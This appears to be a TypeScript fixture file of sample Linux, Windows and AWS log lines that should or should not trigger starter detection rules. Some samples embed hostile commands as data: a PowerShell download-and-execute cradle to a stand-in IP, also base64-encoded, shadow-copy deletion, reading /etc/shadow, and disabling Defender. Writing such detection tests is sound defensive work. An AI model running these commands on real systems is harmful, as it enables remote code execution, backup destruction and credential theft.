/** Log lines of which a starter rule makes an alert, and similar ones of which it makes none. */
type Samples = { fires: readonly string[]; silent: readonly string[] };

const ssh = (message: string, second = 0): string =>
  `<38>Nov 12 10:${String(Math.floor(second / 60)).padStart(2, '0')}:${String(second % 60).padStart(2, '0')} web-01 sshd[4711]: ${message}`;
const sudo = (message: string): string => `<85>Nov 12 10:00:00 web-01 sudo[815]: ${message}`;
const many = (n: number, line: (n: number) => string): string[] => Array.from({ length: n }, (_, i) => line(i));

const windows = (Channel: string, EventID: number, more: object = {}): string =>
  JSON.stringify({ Channel, EventID, Computer: 'pc-7', TimeCreated: '2026-11-12T10:00:00Z', ...more });
const process = (Image: string, CommandLine: string, ParentImage = 'C:\\Windows\\explorer.exe'): string =>
  windows('Microsoft-Windows-Sysmon/Operational', 1, { Image, CommandLine, ParentImage });
const aws = (eventName: string, more: object = {}, at = 0): string =>
  JSON.stringify({
    eventTime: `2026-11-12T10:00:${String(at).padStart(2, '0')}Z`,
    eventSource: 'signin.amazonaws.com',
    eventName,
    sourceIPAddress: '203.0.113.7',
    userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::1:user/eve', userName: 'eve' },
    ...more,
  });

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const ENCODED = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x")', 'utf16le').toString('base64');

export const STARTER_SAMPLES: Readonly<Record<string, Samples>> = {
  'linux-ssh-brute-force': {
    fires: many(20, (n) => ssh('Failed password for root from 203.0.113.7 port 41000 ssh2', n * 14)),
    silent: [
      ...many(19, (n) => ssh('Failed password for root from 203.0.113.7 port 41000 ssh2', n)),
      ssh('Failed password for root from 203.0.113.8 port 41000 ssh2', 30),
      ssh('Accepted password for alice from 203.0.113.7 port 41000 ssh2', 31),
    ],
  },
  'linux-ssh-password-spraying': {
    fires: many(10, (n) => ssh(`Failed password for invalid user user${n} from 203.0.113.7 port 41000 ssh2`, n * 20)),
    silent: many(40, (n) => ssh(`Failed password for invalid user user${n % 9} from 203.0.113.7 port 41 ssh2`, n)),
  },
  'linux-ssh-root-login': {
    fires: [ssh('Accepted password for root from 203.0.113.7 port 41000 ssh2')],
    silent: [
      ssh('Accepted publickey for root from 203.0.113.7 port 41000 ssh2'),
      ssh('Accepted password for rooter from 203.0.113.7 port 41000 ssh2'),
    ],
  },
  'linux-sudo-not-allowed': {
    fires: [sudo('bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/cat /etc/shadow')],
    silent: [sudo('alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update')],
  },
  'linux-sudo-root-shell': {
    fires: [sudo('alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/bash')],
    silent: [
      sudo('alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/bashful'),
      sudo('alice : TTY=pts/0 ; PWD=/home/alice ; USER=web ; COMMAND=/usr/bin/bash'),
    ],
  },
  'linux-account-created': {
    fires: [
      "<86>Nov 12 10:00:00 web-01 usermod[99]: add 'bob' to group 'sudo'",
      '<86>Nov 12 10:00:00 web-01 useradd[98]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/sh',
    ],
    silent: [
      "<86>Nov 12 10:00:00 web-01 usermod[99]: add 'bob' to group 'video'",
      '<86>Nov 12 10:00:00 web-01 useradd[98]: new user: name=bob, UID=1002, GID=1002, home=/home/bob',
    ],
  },
  'windows-log-cleared': {
    fires: [windows('Security', 1102), windows('System', 104)],
    silent: [windows('Security', 104), windows('Application', 1102)],
  },
  'windows-encoded-powershell': {
    fires: [
      process(POWERSHELL, `powershell.exe -NoProfile -enc ${ENCODED}`),
      windows('Security', 4688, { NewProcessName: POWERSHELL, CommandLine: `powershell /EncodedCommand ${ENCODED}` }),
    ],
    silent: [
      process(
        POWERSHELL,
        'powershell.exe -ExecutionPolicy RemoteSigned -File C:\\scripts\\abcdefghijklmnopqrstuvwxyz.ps1',
      ),
      process('C:\\tools\\encoder.exe', `encoder.exe -enc ${ENCODED}`),
    ],
  },
  'windows-download-cradle': {
    fires: [
      process(POWERSHELL, 'powershell IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.7/a")'),
      process(POWERSHELL, `powershell -e ${ENCODED}`),
    ],
    silent: [process(POWERSHELL, 'powershell Invoke-WebRequest https://example.com/file.zip -OutFile file.zip')],
  },
  'windows-office-starts-shell': {
    fires: [process('C:\\Windows\\System32\\cmd.exe', 'cmd /c whoami', 'C:\\Program Files\\Office\\WINWORD.EXE')],
    silent: [process('C:\\Windows\\System32\\cmd.exe', 'cmd /c whoami', 'C:\\tools\\notwinword.exe.exe')],
  },
  'windows-shadow-copies-deleted': {
    fires: [process('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe Delete Shadows /all /quiet')],
    silent: [process('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe list shadows')],
  },
  'windows-lsass-access': {
    fires: [access('C:\\Users\\eve\\dump.exe', '0x1410')],
    silent: [access('C:\\Windows\\System32\\svchost.exe', '0x1410'), access('C:\\Users\\eve\\dump.exe', '0x1000')],
  },
  'windows-password-spraying': {
    fires: many(10, (n) => failedLogin(`user${n}`, '203.0.113.7')),
    silent: [
      ...many(9, (n) => failedLogin(`user${n}`, '203.0.113.7')),
      ...many(12, (n) => failedLogin(`other${n}`, '-')),
    ],
  },
  'windows-admin-group-changed': {
    fires: [
      windows('Security', 4728, { TargetSid: 'S-1-5-21-1-2-3-512', TargetUserName: 'Domain Admins' }),
      windows('Security', 4732, { TargetSid: 'S-1-5-32-544', TargetUserName: 'Administrators' }),
    ],
    silent: [windows('Security', 4732, { TargetSid: 'S-1-5-32-555', TargetUserName: 'Remote Desktop Users' })],
  },
  'windows-service-from-user-folder': {
    fires: [windows('System', 7045, { ServiceName: 'x', ImagePath: 'C:\\Users\\eve\\AppData\\x.exe' })],
    silent: [windows('System', 7045, { ServiceName: 'x', ImagePath: 'C:\\Windows\\System32\\x.exe' })],
  },
  'windows-defender-off': {
    fires: [process(POWERSHELL, 'powershell Set-MpPreference -DisableRealtimeMonitoring $true')],
    silent: [process(POWERSHELL, 'powershell Set-MpPreference -DisableRealtimeMonitoring $false')],
  },
  'aws-root-login': {
    fires: [aws('ConsoleLogin', { userIdentity: { type: 'Root', arn: 'arn:aws:iam::1:root' } })],
    silent: [aws('ConsoleLogin')],
  },
  'aws-login-without-mfa': {
    fires: [login('Success', 'No')],
    silent: [login('Success', 'Yes'), login('Failure', 'No')],
  },
  'aws-trail-stopped': {
    fires: [aws('StopLogging', { eventSource: 'cloudtrail.amazonaws.com' })],
    silent: [aws('StopLogging', { eventSource: 'cloudtrail.amazonaws.com', errorCode: 'AccessDenied' })],
  },
  'aws-public-bucket': {
    fires: [
      aws('DeleteBucketPublicAccessBlock', { eventSource: 's3.amazonaws.com' }),
      aws(
        'PutBucketAcl',
        bucket({ AccessControlPolicy: { Grantee: 'http://acs.amazonaws.com/groups/global/AllUsers' } }),
      ),
      aws('PutBucketPolicy', bucket({ bucketPolicy: '{"Effect":"Allow","Principal":"*","Action":"s3:GetObject"}' })),
    ],
    silent: [
      aws('PutBucketAcl', bucket({ AccessControlPolicy: { Grantee: 'id=1234' } })),
      aws('PutBucketPolicy', bucket({ bucketPolicy: '{"Effect":"Allow","Principal":"arn:aws:iam::1:root"}' })),
    ],
  },
  'aws-key-for-another-user': {
    fires: [newKey('admin')],
    silent: [newKey('eve'), aws('CreateAccessKey', { eventSource: 'iam.amazonaws.com' })],
  },
  'aws-many-refusals': {
    fires: many(15, (n) => aws(`Describe${n}`, { errorCode: 'AccessDenied' }, n)),
    silent: many(30, (n) => aws(`Describe${n % 14}`, { errorCode: 'AccessDenied' }, n)),
  },
};

function access(SourceImage: string, GrantedAccess: string): string {
  const TargetImage = 'C:\\Windows\\system32\\lsass.exe';
  return windows('Microsoft-Windows-Sysmon/Operational', 10, { SourceImage, TargetImage, GrantedAccess });
}

function failedLogin(TargetUserName: string, IpAddress: string): string {
  return windows('Security', 4625, { TargetUserName, IpAddress });
}

function login(outcome: string, MFAUsed: string): string {
  return aws('ConsoleLogin', { responseElements: { ConsoleLogin: outcome }, additionalEventData: { MFAUsed } });
}

function bucket(requestParameters: object): object {
  return { eventSource: 's3.amazonaws.com', requestParameters };
}

function newKey(userName: string): string {
  return aws('CreateAccessKey', { eventSource: 'iam.amazonaws.com', requestParameters: { userName } });
}
